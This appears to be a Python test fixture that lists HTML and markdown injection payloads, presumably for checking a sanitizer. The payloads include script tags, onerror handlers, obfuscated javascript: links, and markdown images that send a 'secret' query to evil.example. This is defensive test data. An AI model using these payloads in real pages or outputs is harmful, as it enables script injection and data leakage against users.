"""Texts that try to run a script, load something from elsewhere, or lead a reader astray. `evil.example` must never be asked."""

_IN_MARKDOWN = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="http://evil.example/?q=1">
<svg onload=alert(1)></svg>
<svg><script href="http://evil.example/x.js"></script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><image href="http://evil.example/i"></image></svg>
<svg><foreignObject><iframe src=http://evil.example></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src="http://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="http://evil.example"></object>
<embed src="http://evil.example">
<link rel=stylesheet href="http://evil.example/x.css">
<link rel=prefetch href="http://evil.example/p">
<style>@import "http://evil.example/x.css";</style>
<style>body{background:url(http://evil.example/b)}</style>
<div style="background:url(http://evil.example/d)">x</div>
<p style="behavior:url(http://evil.example/h)">x</p>
<meta http-equiv=refresh content="0;url=http://evil.example">
<base href="http://evil.example/">
<form action="http://evil.example"><input name=q autofocus onfocus=alert(1)></form>
<button formaction="javascript:alert(1)">x</button>
<input type=image src="http://evil.example/i">
<video src="http://evil.example/v" autoplay onerror=alert(1)></video>
<video poster="http://evil.example/p"></video>
<audio src="http://evil.example/a" autoplay></audio>
<source srcset="http://evil.example/s">
<picture><source srcset="http://evil.example/s"><img srcset="http://evil.example/t 1x"></picture>
<body onload=alert(1)>
<body background="http://evil.example/b">
<table background="http://evil.example/t"><td background="http://evil.example/u">x</table>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="https://a.example" ping="http://evil.example/ping">x</a>
<a href="https://a.example" onmouseover=alert(1)>x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<!--<img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="http://evil.example/x.xsl"?>
<!DOCTYPE html SYSTEM "http://evil.example/x.dtd">
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<IMG SRC=JaVaScRiPt:alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1)//
<custom-element onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</custom-element>
&lt;img src=x onerror=alert(1)&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
![](http://evil.example/?q=secret)
![x](http://evil.example/?q=secret)
![x](http://evil.example/a "title")
![x](<http://evil.example/a b>)
![x](https://evil.example/%22%20onerror=alert(1))
![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![" onerror="alert(1)](http://evil.example/x)
![<img src=x onerror=alert(1)>](http://evil.example/x)
![![nested](http://evil.example/1)](http://evil.example/2)
[![x](http://evil.example/i)](https://a.example)
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](\\javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:http://evil.example/1)
[x](//evil.example)
[x](\\\\evil.example\\share)
[x](https://bank.example@evil.example)
[x](https://a.example" onmouseover="alert(1))
[x](https://a.example 'title" onmouseover="alert(1)')
[x](<javascript:alert(1)>)
[x](mailto:a@b.example?bcc=evil@evil.example)
[<img src=x onerror=alert(1)>](https://a.example)
<javascript:alert(1)>
<data:text/html,x>
<http://evil.example/"onmouseover="alert(1)>
```html"><img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
| <img src=x onerror=alert(1)> |
# <script>alert(1)</script>
> <img src=x onerror=alert(1)>
- <svg onload=alert(1)>
**<img src=x onerror=alert(1)>**
"""
_OVER_LINES = (
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "![r]\n\n[r]: http://evil.example/?q=secret 'title'",
    "[r]: <javascript:alert(1)>\n\n[r]",
    "[x](java\nscript:alert(1))",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<script>\nalert(1)\n</script>",
    "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    "| a |\n|---|\n| ![x](http://evil.example/t) |",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "    <script>alert(1)</script>",
    "a\x00<script>alert(1)</script>",
    "<img src=x one\x00rror=alert(1)>",
    "\u2028<script>alert(1)</script>",
    "<a href='java\u00a0script:alert(1)'>x</a>",
    "[x](\u0001javascript:alert(1))",
    "[x](https://evil\u3002example)",
    "\ufeff<script>alert(1)</script>",
)
HOSTILE = tuple(line for line in _IN_MARKDOWN.splitlines() if line) + _OVER_LINES
